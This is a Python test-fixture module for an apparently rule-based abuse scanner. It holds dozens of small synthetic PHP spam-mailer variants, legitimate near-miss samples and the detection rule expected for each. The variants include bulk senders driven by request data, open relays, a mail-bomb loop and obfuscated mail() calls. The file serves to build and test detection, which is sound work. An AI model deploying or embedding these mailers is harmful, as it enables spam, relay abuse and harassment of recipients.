"""Must-hit / near-miss samples for issue 4j: self-written variants of spam senders.

Small synthetic PHP written for the tests (no corpus bytes): the shapes real hosting-abuse mailers
take, varied in variable names, loop form (foreach/for/while/do/array_map), list split
(newline, CRLF, comma, semicolon, regex), list source (textarea, upload, raw body, copy of the
request), send path (mail(), PHPMailer, own SMTP socket) and hiding (base64 or assembled function
names). The near-misses are legitimate look-alikes: contact forms, newsletters sent from a
database, password-reset and notification code.
"""

from __future__ import annotations


def php(body: str) -> bytes:
    """A PHP file around `body`."""
    return ("<?php\n" + body + "\n").encode()


VARIANTS: dict[str, bytes] = {
    "crlf_textarea_from_header": php(
        "$victims = explode(\"\\r\\n\", $_POST['victims']);\n"
        "$hdr = 'From: ' . $_POST['sname'] . ' <' . $_POST['smail'] . \">\\r\\n\";\n"
        "foreach ($victims as $v) { @mail($v, $_POST['sub'], $_POST['txt'], $hdr); }"
    ),
    "for_count_newline": php(
        "$l = explode(\"\\n\", trim($_POST['l']));\n"
        "for ($n = 0; $n < count($l); $n++) {\n"
        "  $ok = mail(trim($l[$n]), $_POST['s'], $_POST['m'], 'From: ' . $_POST['f']);\n"
        "  print $ok ? 'sent ' : 'fail ';\n}"
    ),
    "while_index": php(
        "$addr = explode(',', $_REQUEST['addr']);\n$i = 0;\n"
        "while ($i < sizeof($addr)) {\n"
        "  mail($addr[$i], $_REQUEST['t'], $_REQUEST['c'], \"From: {$_REQUEST['fr']}\");\n"
        "  $i++;\n}"
    ),
    "semicolon_list_sleep": php(
        "set_time_limit(0);\n$rcpts = explode(';', $_POST['rcpts']);\n"
        "foreach ($rcpts as $r) {\n  mail(trim($r), $_POST['subject'], $_POST['html'],"
        ' "MIME-Version: 1.0\\r\\nContent-type: text/html\\r\\n");\n  sleep(1);\n}'
    ),
    "preg_split_regex": php(
        "$to = preg_split('/[\\r\\n,;]+/', $_POST['dest'], -1, PREG_SPLIT_NO_EMPTY);\n"
        "foreach ($to as $k => $dest) {\n"
        "  if (mail($dest, $_POST['titulo'], $_POST['corpo'])) echo \"$k ok\\n\";\n}"
    ),
    "upload_file_tmp": php(
        "$lines = file($_FILES['lst']['tmp_name'], FILE_IGNORE_NEW_LINES);\n"
        "foreach ($lines as $e) { mail($e, $_POST['s'], $_POST['b'], 'From: ' . $_POST['from']); }"
    ),
    "upload_get_contents": php(
        "$raw = file_get_contents($_FILES['leads']['tmp_name']);\n"
        '$arr = explode("\\n", $raw);\n'
        "foreach ($arr as $one) { mail(trim($one), $_POST['subject'], $_POST['message']); flush(); }"
    ),
    "upload_moved_then_file": php(
        "move_uploaded_file($_FILES['f']['tmp_name'], 'list.txt');\n"
        "$all = file('list.txt');\n"
        "foreach ($all as $to) { mail(trim($to), $_POST['subj'], $_POST['letter'],"
        " 'From: ' . $_POST['from']); echo '.'; flush(); }"
    ),
    "phpmailer_smtp_from_post": php(
        "require 'PHPMailerAutoload.php';\n"
        "$list = explode(\"\\n\", $_POST['list']);\n"
        "foreach ($list as $rc) {\n  $m = new PHPMailer;\n  $m->isSMTP();\n"
        "  $m->Host = $_POST['smtp_host'];\n  $m->Username = $_POST['smtp_user'];\n"
        "  $m->Password = $_POST['smtp_pass'];\n  $m->setFrom($_POST['from'], $_POST['name']);\n"
        "  $m->addAddress(trim($rc));\n  $m->Subject = $_POST['subject'];\n"
        "  $m->msgHTML($_POST['body']);\n  $m->send();\n}"
    ),
    "phpmailer_namespaced_upload": php(
        "use PHPMailer\\PHPMailer\\PHPMailer;\nrequire 'vendor/autoload.php';\n"
        "$mailer = new PHPMailer(true);\n$mailer->Subject = $_POST['subject'];\n"
        "$mailer->Body = $_POST['body'];\n"
        "foreach (file($_FILES['emails']['tmp_name']) as $addr) {\n"
        "  $mailer->clearAddresses();\n  $mailer->addAddress(trim($addr));\n  $mailer->send();\n}"
    ),
    "fsock_smtp_loop": php(
        "$rcpt = explode(\"\\n\", $_POST['rcpt']);\n"
        "foreach ($rcpt as $r) {\n  $fp = fsockopen($_POST['host'], 25, $en, $es, 10);\n"
        '  fwrite($fp, "HELO localhost\\r\\n");\n  fwrite($fp, "MAIL FROM:<{$_POST[\'from\']}>\\r\\n");\n'
        '  fwrite($fp, "RCPT TO:<" . trim($r) . ">\\r\\n");\n  fwrite($fp, "DATA\\r\\n");\n'
        "  fwrite($fp, $_POST['data'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\n  fclose($fp);\n}"
    ),
    "stream_ssl_smtp_auth": php(
        "$s = stream_socket_client('ssl://' . $_POST['h'] . ':465');\n"
        'fputs($s, "EHLO x\\r\\nAUTH LOGIN\\r\\n" . base64_encode($_POST[\'u\']) . "\\r\\n"'
        " . base64_encode($_POST['p']) . \"\\r\\n\");\n"
        "foreach (explode(',', $_POST['to']) as $t) {\n"
        "  fputs($s, \"MAIL FROM:<{$_POST['u']}>\\r\\nRCPT TO:<$t>\\r\\nDATA\\r\\n\");\n"
        "  fputs($s, $_POST['msg'] . \"\\r\\n.\\r\\n\");\n}"
    ),
    "single_relay_all_input": php(
        "if (isset($_POST['to'])) {\n"
        "  mail($_POST['to'], $_POST['subject'], $_POST['message'], 'From: ' . $_POST['from']);\n"
        "  echo 'done';\n}"
    ),
    "headers_var_reply_to": php(
        '$h = "From: " . $_POST[\'from\'] . "\\r\\nReply-To: " . $_POST[\'reply\'] . "\\r\\n";\n'
        '$h .= "Content-Type: text/html\\r\\n";\n'
        "$emails = explode(\"\\n\", $_POST['emails']);\n"
        "foreach ($emails as $em) { mail(trim($em), $_POST['subject'], $_POST['body'], $h); }"
    ),
    "base64_fn_name": php(
        "$f = base64_decode('bWFpbA==');\n"
        "foreach (explode(\"\\n\", $_POST['t']) as $x) { $f(trim($x), $_POST['s'], $_POST['m']); }"
    ),
    "var_fn_name": php(
        "$send = 'mail';\n$people = explode(\"\\n\", $_GET['people']);\n"
        "foreach ($people as $p) { $send($p, $_GET['s'], $_GET['b']); }"
    ),
    "call_user_func": php(
        "$lst = explode(\"\\n\", $_POST['lst']);\n"
        "foreach ($lst as $e) { call_user_func('mail', trim($e), $_POST['s'], $_POST['m'],"
        " 'From: ' . $_POST['f']); }"
    ),
    "alias_copy": php(
        "$p = $_POST;\n$ads = explode(\"\\n\", $p['ads']);\n"
        "foreach ($ads as $a) { mail(trim($a), $p['subject'], $p['body'], 'From: ' . $p['from']); }"
    ),
    "alias_request_for": php(
        "$q = $_REQUEST;\n$rows = preg_split('/\\n/', $q['rows']);\n"
        "for ($i = 0; $i < count($rows); $i++) { mail($rows[$i], $q['sj'], $q['bd']); usleep(200000); }"
    ),
    "extract_post": php(
        'extract($_POST);\n$mails = explode("\\n", $maillist);\n'
        'foreach ($mails as $to) { mail($to, $subject, $message, "From: $realname <$from>"); }'
    ),
    "traits_ignore_abort": php(
        "@set_time_limit(0); @ignore_user_abort(true);\n"
        "$list = explode(\"\\n\", $_POST['mailist']);\n$c = 0;\n"
        "foreach ($list as $to) {\n  $c++;\n  mail($to, $_POST['subj'], $_POST['msg']);\n"
        '  echo "[$c] $to<br>"; @ob_flush(); @flush();\n}'
    ),
    "mb_send_mail": php(
        "mb_language('uni');\n$as = explode(\"\\n\", $_POST['as']);\n"
        "foreach ($as as $a) { mb_send_mail(trim($a), $_POST['kenmei'], $_POST['honbun']); }"
    ),
    "array_map_closure": php(
        "$s = $_POST['s']; $b = $_POST['b'];\n"
        "array_map(function ($e) use ($s, $b) { mail(trim($e), $s, $b); },"
        " explode(\"\\n\", $_POST['e']));"
    ),
    "array_walk": php(
        "$emails = explode(\"\\n\", $_POST['emails']);\n"
        "array_walk($emails, function ($e) { mail(trim($e), $_POST['subject'], $_POST['msg']); });"
    ),
    "do_while_shift": php(
        "$q = explode(\"\\n\", $_POST['queue']);\n"
        "do {\n  $to = array_shift($q);\n  mail($to, $_POST['subject'], $_POST['text']);\n"
        "} while (count($q) > 0);"
    ),
    "get_driven": php(
        "$to = explode(',', $_GET['to']);\n"
        "foreach ($to as $t) { mail($t, base64_decode($_GET['s']), base64_decode($_GET['b'])); }"
    ),
    "raw_body_list": php(
        "$body = file_get_contents('php://input');\n$lines = explode(\"\\n\", $body);\n"
        "$subj = array_shift($lines); $msg = array_shift($lines);\n"
        "foreach ($lines as $l) { mail(trim($l), $subj, $msg); }"
    ),
    "bcc_implode_single": php(
        "$list = explode(\"\\n\", $_POST['list']);\n"
        "$h = 'From: ' . $_POST['from'] . \"\\r\\nBcc: \" . implode(',', $list) . \"\\r\\n\";\n"
        "mail($_POST['to'], $_POST['subject'], $_POST['body'], $h);"
    ),
    "fifth_param_f": php(
        "$r = explode(\"\\n\", $_POST['r']);\n"
        "foreach ($r as $a) { mail($a, $_POST['s'], $_POST['m'], '', '-f' . $_POST['envelope']); }"
    ),
    "json_list": php(
        "$data = json_decode($_POST['payload'], true);\n"
        "foreach ($data['emails'] as $e) { mail($e, $data['subject'], $data['html'], $data['headers']); }"
    ),
    "function_wrapper": php(
        "function snd($to) {\n  global $sub, $msg, $hd;\n  return @mail($to, $sub, $msg, $hd);\n}\n"
        "$sub = $_POST['sub']; $msg = $_POST['msg']; $hd = 'From: ' . $_POST['from'];\n"
        "foreach (explode(\"\\n\", $_POST['to']) as $t) { snd(trim($t)); }"
    ),
    "personalise_tags": php(
        "$emails = explode(\"\\r\\n\", $_POST['emails']);\n"
        "foreach ($emails as $email) {\n"
        "  $b = str_replace('[-email-]', $email, $_POST['letter']);\n"
        "  $b = str_replace('[-randomnumber-]', rand(1000, 9999), $b);\n"
        "  mail($email, $_POST['subject'], $b, 'From: ' . $_POST['from']);\n}"
    ),
    "array_filter_map": php(
        "$dst = array_filter(array_map('trim', explode(\"\\n\", $_POST['dst'])));\n"
        "foreach ($dst as $d) { mail($d, $_POST['s'], $_POST['c']); }"
    ),
    "cookie_headers": php(
        "$to = explode(',', $_COOKIE['t']);\n"
        "foreach ($to as $x) { mail($x, $_COOKIE['s'], $_COOKIE['b'], $_COOKIE['h']); }"
    ),
    "socket_create_smtp": php(
        "$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\n"
        "socket_connect($sock, $_POST['mx'], 25);\n"
        'socket_write($sock, "HELO me\\r\\nMAIL FROM:<" . $_POST[\'f\'] . ">\\r\\n");\n'
        "foreach (explode(\"\\n\", $_POST['r']) as $r) {\n"
        '  socket_write($sock, "RCPT TO:<" . trim($r) . ">\\r\\n");\n}\n'
        'socket_write($sock, "DATA\\r\\n" . $_POST[\'d\'] . "\\r\\n.\\r\\n");'
    ),
    "uppercase_mail": php(
        "$E = explode(\"\\n\", $_POST['E']);\nforeach ($E as $e) { MAIL($e, $_POST['S'], $_POST['B']); }"
    ),
    "tab_whitespace": php(
        "$list\t=\texplode( \"\\n\" ,\t$_POST[ 'list' ] );\n"
        "foreach(  $list  as  $t  ){ mail ( $t , $_POST[ 'subject' ] , $_POST[ 'body' ] ) ; }"
    ),
    "double_quoted_keys": php(
        '$recipients = explode("\\n", $_POST["recipients"]);\n'
        "foreach ($recipients as $recipient) {\n"
        '  mail($recipient, $_POST["subject"], $_POST["message"], "From: " . $_POST["sender"]);\n}'
    ),
    "strrev_name": php(
        "$fn = strrev('liam');\n"
        "foreach (explode(\"\\n\", $_POST['x']) as $y) { $fn($y, $_POST['s'], $_POST['m']); }"
    ),
    "chr_name": php(
        "$fn = chr(109) . chr(97) . chr(105) . chr(108);\n"
        "foreach (explode(\"\\n\", $_POST['x']) as $y) { $fn($y, $_POST['s'], $_POST['m']); }"
    ),
    "header_injection_getenv": php(
        "$hd = stripslashes($_POST['headers']);\nmail($_POST['rcpt'], $_POST['subj'], $_POST['text'], $hd);"
    ),
    "html_form_mailer": php(
        "if ($_POST['action'] == 'send') {\n"
        "  $message = stripslashes($_POST['message']);\n"
        "  $emaillist = $_POST['emaillist'];\n"
        '  $allemails = split("\\n", $emaillist);\n  $numemails = count($allemails);\n'
        "  for ($x = 0; $x < $numemails; $x++) {\n    $to = $allemails[$x];\n"
        '    if ($to) { $to = ereg_replace(" ", "", $to);\n'
        "      mail($to, $_POST['subject'], $message, \"From: \" . $_POST['from']); }\n  }\n}\n"
        "?><form method=post><textarea name=emaillist></textarea></form>"
    ),
    "smtp_function_loop_upload": php(
        "function smtp_send($host, $to, $data) {\n  $c = fsockopen($host, 587);\n"
        '  fputs($c, "EHLO a\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\n$data\\r\\n.\\r\\n");\n  fclose($c);\n}\n'
        "foreach (file($_FILES['l']['tmp_name']) as $to) { smtp_send($_POST['h'], trim($to), $_POST['d']); }"
    ),
    "fgets_upload_loop": php(
        "$fh = fopen($_FILES['maillist']['tmp_name'], 'r');\n"
        "while (($line = fgets($fh)) !== false) {\n"
        "  mail(trim($line), $_POST['subject'], $_POST['message'], 'From: ' . $_POST['from']);\n"
        "}\nfclose($fh);"
    ),
    "headers_append_loop": php(
        "$headers = \"MIME-Version: 1.0\\r\\n\";\n$headers .= 'From: ' . $_POST['fromname'] . \"\\r\\n\";\n"
        "$destinatarios = $_POST['destinatarios'];\n$arr = explode(\"\\n\", $destinatarios);\n"
        "foreach ($arr as $d) { mail($d, $_POST['asunto'], $_POST['mensaje'], $headers); }"
    ),
    "encoded_subject_list_file": php(
        "$emails = file('mails.txt');\n"
        "foreach ($emails as $e) {\n"
        "  mail(trim($e), '=?UTF-8?B?' . base64_encode($_POST['subject']) . '?=', $_POST['html'],"
        ' "Content-Type: text/html\\r\\n");\n}'
    ),
    "phpmailer_bcc_one_send": php(
        "$mail = new PHPMailer();\n$mail->IsMail();\n$mail->From = $_POST['from'];\n"
        "$mail->Subject = $_POST['subject'];\n$mail->Body = $_POST['body'];\n"
        "foreach (explode(\"\\n\", $_POST['bcc']) as $b) { $mail->AddBCC(trim($b)); }\n$mail->Send();"
    ),
    "swift_loop": php(
        "$transport = new Swift_SmtpTransport($_POST['host'], 587);\n"
        "$mailer = new Swift_Mailer($transport);\n"
        "foreach (explode(\"\\n\", $_POST['to']) as $t) {\n"
        "  $msg = (new Swift_Message($_POST['subject']))->setFrom($_POST['from'])->setTo(trim($t))"
        "->setBody($_POST['body']);\n  $mailer->send($msg);\n}"
    ),
    "array_pop_while": php(
        "$list = explode(\"\\n\", $_POST['list']);\n"
        "while ($addr = array_pop($list)) { mail($addr, $_POST['subject'], $_POST['body']); }"
    ),
    "foreach_preg_split_direct": php(
        "foreach (preg_split(\"/\\r?\\n/\", $_POST['emails']) as $addr) {\n"
        "  mail($addr, $_POST['subject'], $_POST['content'], 'From: ' . $_POST['email_from']);\n}"
    ),
    "str_replace_cr_first": php(
        "$tos = explode(\"\\n\", str_replace(\"\\r\", '', $_POST['tos']));\n"
        "foreach ($tos as $to) { if (trim($to) != '') mail($to, $_POST['s'], $_POST['b']); }"
    ),
    "mail_bomb_count": php(
        "$n = (int) $_GET['n'];\n"
        "for ($i = 0; $i < $n; $i++) { mail($_GET['to'], $_GET['subject'] . ' ' . $i, $_GET['msg']); }"
    ),
    "sendmail_from_ini": php(
        "ini_set('sendmail_from', $_POST['from']);\n$list = explode(',', $_POST['list']);\n"
        "foreach ($list as $to) { mail(trim($to), $_POST['subject'], $_POST['message']); }"
    ),
    "array_map_trim_comma": php(
        "$emails = array_map('trim', explode(',', $_POST['emails']));\n"
        "$subject = $_POST['subject']; $message = $_POST['message'];\n"
        "foreach ($emails as $email) { mail($email, $subject, $message, 'From: ' . $_POST['from']); }"
    ),
    "str_getcsv_upload": php(
        "$rows = array_map('str_getcsv', file($_FILES['csv']['tmp_name']));\n"
        "foreach ($rows as $row) {\n"
        "  mail($row[0], $_POST['subject'], str_replace('%name%', $row[1], $_POST['body']));\n}"
    ),
    "four_char_glue": php(
        "$k = 'm' . 'a' . 'i' . 'l';\n"
        "foreach (explode(\"\\n\", $_POST['to']) as $t) { $k(trim($t), $_POST['s'], $_POST['m']); }"
    ),
    "hex_escaped_name": php(
        '$z = "\\x6d\\x61\\x69\\x6c";\n'
        "$all = explode(',', $_REQUEST['all']);\n"
        "foreach ($all as $a) { $z($a, $_REQUEST['t'], $_REQUEST['b']); }"
    ),
    "array_map_mail_callback": php(
        "$to = explode(\"\\n\", $_POST['to']);\n$n = count($to);\n"
        "array_map('mail', $to, array_fill(0, $n, $_POST['subject']), array_fill(0, $n, $_POST['body']));"
    ),
    "imap_mail_loop": php(
        "$rcpt = explode(\"\\n\", $_POST['rcpt']);\n"
        "foreach ($rcpt as $r) {\n"
        "  imap_mail(trim($r), $_POST['subject'], $_POST['body'], 'From: ' . $_POST['from']);\n}"
    ),
    "error_log_mailer": php(
        "$dest = explode(\"\\n\", $_POST['dest']);\n"
        "foreach ($dest as $d) { error_log($_POST['body'], 1, trim($d), 'Subject: ' . $_POST['subject']); }"
    ),
    "each_list_loop": php(
        "$emails = explode(\"\\n\", $_POST['emails']);\n"
        "while (list($k, $v) = each($emails)) { mail($v, $_POST['subject'], $_POST['message']); }"
    ),
    "goto_loop": php(
        "$a = explode(\"\\n\", $_POST['a']); $i = 0;\n"
        "again: mail(trim($a[$i]), $_POST['s'], $_POST['m']);\n"
        "if (++$i < count($a)) goto again;"
    ),
    "remote_list_url": php(
        "$list = explode(\"\\n\", file_get_contents($_POST['list_url']));\n"
        "foreach ($list as $to) { mail(trim($to), $_POST['subject'], $_POST['html'], $hdr); }"
    ),
    "attachment_mailer": php(
        "$att = chunk_split(base64_encode(file_get_contents($_FILES['attach']['tmp_name'])));\n"
        "$b = md5(time());\n$headers = \"From: {$_POST['from']}\\r\\nContent-Type: multipart/mixed;"
        ' boundary=\\"$b\\"\\r\\n";\n'
        '$body = "--$b\\r\\n" . $_POST[\'msg\'] . "\\r\\n--$b\\r\\n" . $att . "--$b--";\n'
        "foreach (preg_split('/\\s+/', $_POST['to']) as $t) { mail($t, $_POST['subject'], $body, $headers); }"
    ),
    "filter_input_list": php(
        "$list = explode(\"\\n\", filter_input(INPUT_POST, 'list'));\n"
        "foreach ($list as $to) {\n"
        "  mail(trim($to), filter_input(INPUT_POST, 'subject'), filter_input(INPUT_POST, 'body'));\n}"
    ),
    "http_post_vars": php(
        "$emaillist = $HTTP_POST_VARS['emaillist'];\n$allemails = explode(\"\\n\", $emaillist);\n"
        "for ($x = 0; $x < count($allemails); $x++) {\n"
        "  mail($allemails[$x], $HTTP_POST_VARS['subject'], $HTTP_POST_VARS['message'],"
        " 'From: ' . $HTTP_POST_VARS['from']);\n}"
    ),
    "filter_input_relay": php(
        "mail(filter_input(INPUT_POST, 'to'), filter_input(INPUT_POST, 'subject'),"
        " filter_input(INPUT_POST, 'msg'), filter_input(INPUT_POST, 'headers'));"
    ),
}

# Legitimate look-alikes: each must stay below the verdict threshold.
NEAR: dict[str, bytes] = {
    "contact_form_fixed_to": php(
        "$name = strip_tags($_POST['name']); $from = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\n"
        "if ($from) { mail('info@example.org', 'Contact: ' . $_POST['subject'], $_POST['message'],"
        " 'Reply-To: ' . $from); }"
    ),
    "newsletter_from_db": php(
        "$res = $db->query('SELECT email FROM subscribers WHERE active = 1');\n"
        "while ($row = $res->fetch_assoc()) { mail($row['email'], $newsletter->subject, $newsletter->body,"
        " 'From: news@example.org'); }"
    ),
    "admin_notify_list": php(
        "$admins = explode(',', $config['admin_emails']);\n"
        "foreach ($admins as $a) { mail(trim($a), 'New comment', $_POST['comment']); }"
    ),
    "password_reset": php(
        "$user = $users->findByEmail($_POST['email']);\n"
        "if ($user) { mail($user->email, 'Reset', 'Link: ' . $token, 'From: noreply@example.org'); }"
    ),
    "phpmailer_single": php(
        "$m = new PHPMailer(true);\n$m->setFrom('site@example.org');\n"
        "$m->addAddress('owner@example.org');\n$m->Subject = 'Form';\n"
        "$m->Body = $_POST['message'];\n$m->addReplyTo($_POST['email']);\n$m->send();"
    ),
    "wp_invite_nonce": php(
        "check_admin_referer('invite'); wp_verify_nonce($_POST['_nonce'], 'x');\n"
        "foreach (explode(\"\\n\", $_POST['invites']) as $e) { wp_mail(trim($e), 'Join', $msg); }"
    ),
    "settings_transport_name": php(
        "$transport = 'mail';\n"
        "foreach (explode(\"\\n\", $_POST['allowed_domains']) as $d) { $domains[] = trim($d); }\n"
        "save_option('transport', $transport);"
    ),
    "webhook_raw_body": php(
        "$payload = file_get_contents('php://input');\n$ev = json_decode($payload, true);\n"
        "foreach ($ev['items'] as $i) { $names[] = $i['name']; }\n"
        "$tags = explode(',', $ev['tags']);\n"
        "mail('ops@example.org', 'Webhook', implode(', ', $names));"
    ),
    "smtp_host_probe": php(
        "$hosts = explode(',', $_POST['hosts']);\n"
        'foreach ($hosts as $h) { $s = fsockopen(trim($h), 25); fputs($s, "EHLO monitor\\r\\nQUIT\\r\\n");'
        " $status[$h] = fgets($s); fclose($s); }"
    ),
    "mailto_chr_obfuscation": php(
        "$u = $_GET['u'];\n"
        "$p = chr(109) . chr(97) . chr(105) . chr(108) . chr(116) . chr(111) . ':';\n"
        "echo '<a href=\"' . $p . $address . '\">' . htmlspecialchars($u) . '</a>';"
    ),
    "admins_file_comment": php(
        "foreach (file('admins.txt') as $a) { mail(trim($a), 'New comment', $_POST['comment']); }"
    ),
    "reset_to_posted_email": php(
        "$headers = 'From: noreply@example.org';\n"
        "if (user_exists($_POST['email'])) { mail($_POST['email'], 'Password reset', $link, $headers); }"
    ),
    "error_log_debug": php(
        "foreach (explode(\"\\n\", $_POST['lines']) as $l) { error_log('bad line: ' . $l, 0); }\n"
        "error_log('import failed', 1, 'admin@example.org');"
    ),
    "filter_input_contact": php(
        "$from = filter_input(INPUT_POST, 'email', FILTER_VALIDATE_EMAIL);\n"
        "mail('owner@example.org', filter_input(INPUT_POST, 'subject'), filter_input(INPUT_POST, 'msg'),"
        " 'Reply-To: ' . $from);"
    ),
}

# The rule each variant is asserted on (the one that catches the shape; most are also caught by others).
EXPECT: dict[str, str] = {
    "crlf_textarea_from_header": "SPAMGEAR_MAILER_LoopOverInputList",
    "for_count_newline": "SPAMGEAR_MAILER_LoopOverInputList",
    "while_index": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "semicolon_list_sleep": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "preg_split_regex": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "upload_file_tmp": "SPAMGEAR_MAILER_FileListBulkSend",
    "upload_get_contents": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "upload_moved_then_file": "SPAMGEAR_MAILER_FileListBulkSend",
    "phpmailer_smtp_from_post": "SPAMGEAR_MAILER_MassMailerForm",
    "phpmailer_namespaced_upload": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "fsock_smtp_loop": "SPAMGEAR_MAILER_SmtpListChecker",
    "stream_ssl_smtp_auth": "SPAMGEAR_MAILER_SmtpListChecker",
    "single_relay_all_input": "SPAMGEAR_MAILER_RelayAllArgsFromInput",
    "headers_var_reply_to": "SPAMGEAR_MAILER_LoopOverInputList",
    "base64_fn_name": "SPAMGEAR_MAILER_HiddenMailName",
    "var_fn_name": "SPAMGEAR_MAILER_LoopOverInputList",
    "call_user_func": "SPAMGEAR_MAILER_LoopOverInputList",
    "alias_copy": "SPAMGEAR_MAILER_BulkSendFromInputCopy",
    "alias_request_for": "SPAMGEAR_MAILER_BulkSendFromInputCopy",
    "extract_post": "SPAMGEAR_MAILER_RegisterGlobalsBulk",
    "traits_ignore_abort": "SPAMGEAR_MAILER_LoopOverInputList",
    "mb_send_mail": "SPAMGEAR_MAILER_LoopOverInputList",
    "array_map_closure": "SPAMGEAR_MAILER_LoopOverInputList",
    "array_walk": "SPAMGEAR_MAILER_LoopOverInputList",
    "do_while_shift": "SPAMGEAR_MAILER_LoopOverInputList",
    "get_driven": "SPAMGEAR_MAILER_EncodedRelay",
    "raw_body_list": "SPAMGEAR_MAILER_LoopOverInputList",
    "bcc_implode_single": "SPAMGEAR_MAILER_BccFromInputList",
    "fifth_param_f": "SPAMGEAR_MAILER_LoopOverInputList",
    "json_list": "SPAMGEAR_MAILER_BulkSendFromInputCopy",
    "function_wrapper": "SPAMGEAR_MAILER_LoopOverInputList",
    "personalise_tags": "SPAMGEAR_MAILER_LoopOverInputList",
    "array_filter_map": "SPAMGEAR_MAILER_LoopOverInputList",
    "cookie_headers": "SPAMGEAR_MAILER_RelayHeadersFromInput",
    "socket_create_smtp": "SPAMGEAR_MAILER_SmtpListChecker",
    "uppercase_mail": "SPAMGEAR_MAILER_LoopOverInputList",
    "tab_whitespace": "SPAMGEAR_MAILER_LoopOverInputList",
    "double_quoted_keys": "SPAMGEAR_MAILER_LoopOverInputList",
    "strrev_name": "SPAMGEAR_MAILER_HiddenMailName",
    "chr_name": "SPAMGEAR_MAILER_HiddenMailName",
    "header_injection_getenv": "SPAMGEAR_MAILER_RelayAllArgsFromInput",
    "html_form_mailer": "SPAMGEAR_MAILER_LoopOverInputList",
    "smtp_function_loop_upload": "SPAMGEAR_MAILER_SmtpListChecker",
    "fgets_upload_loop": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "headers_append_loop": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "encoded_subject_list_file": "SPAMGEAR_MAILER_FileListBulkSend",
    "phpmailer_bcc_one_send": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "swift_loop": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "array_pop_while": "SPAMGEAR_MAILER_LoopOverInputList",
    "foreach_preg_split_direct": "SPAMGEAR_MAILER_LoopOverInputList",
    "str_replace_cr_first": "SPAMGEAR_MAILER_LoopOverInputList",
    "mail_bomb_count": "SPAMGEAR_MAILER_RelayAllArgsFromInput",
    "sendmail_from_ini": "SPAMGEAR_MAILER_MassMailerForm",
    "array_map_trim_comma": "SPAMGEAR_MAILER_MassMailerForm",
    "str_getcsv_upload": "SPAMGEAR_MAILER_FileListBulkSend",
    "four_char_glue": "SPAMGEAR_MAILER_HiddenMailName",
    "hex_escaped_name": "SPAMGEAR_MAILER_HiddenMailName",
    "array_map_mail_callback": "SPAMGEAR_MAILER_LoopOverInputList",
    "imap_mail_loop": "SPAMGEAR_MAILER_LoopOverInputList",
    "error_log_mailer": "SPAMGEAR_MAILER_LoopOverInputList",
    "each_list_loop": "SPAMGEAR_MAILER_LoopOverInputList",
    "goto_loop": "SPAMGEAR_MAILER_LoopOverInputList",
    "remote_list_url": "SPAMGEAR_MAILER_LoopOverInputList",
    "attachment_mailer": "SPAMGEAR_MAILER_BulkSendOverInputList",
    "filter_input_list": "SPAMGEAR_MAILER_LoopOverInputList",
    "http_post_vars": "SPAMGEAR_MAILER_LoopOverInputList",
    "filter_input_relay": "SPAMGEAR_MAILER_RelayAllArgsFromInput",
}

# Rules widened or added in issue 4j: no near-miss may fire any of them.
CHANGED = [
    "SPAMGEAR_MAILER_LoopOverInputList",
    "SPAMGEAR_MAILER_SmtpListChecker",
    "SPAMGEAR_MAILER_HiddenMailName",
    "SPAMGEAR_MAILER_FileListBulkSend",
    "SPAMGEAR_MAILER_RelayAllArgsFromInput",
]

CASES: list[tuple[str, bytes, bool]] = [(EXPECT[k], v, True) for k, v in VARIANTS.items()] + [
    (rule, v, False) for v in NEAR.values() for rule in CHANGED
]
